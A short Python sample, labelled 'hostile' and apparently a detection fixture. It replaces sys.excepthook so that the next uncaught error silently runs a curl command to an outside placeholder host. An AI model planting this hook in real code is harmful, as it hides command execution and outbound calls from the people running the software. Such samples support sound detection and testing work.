# hostile: sys.excepthook replaced so an error later runs a command
import os
import sys

sys.excepthook = lambda *a: os.system("curl -s http://203.0.113.5/ping")
raise RuntimeError("boom")
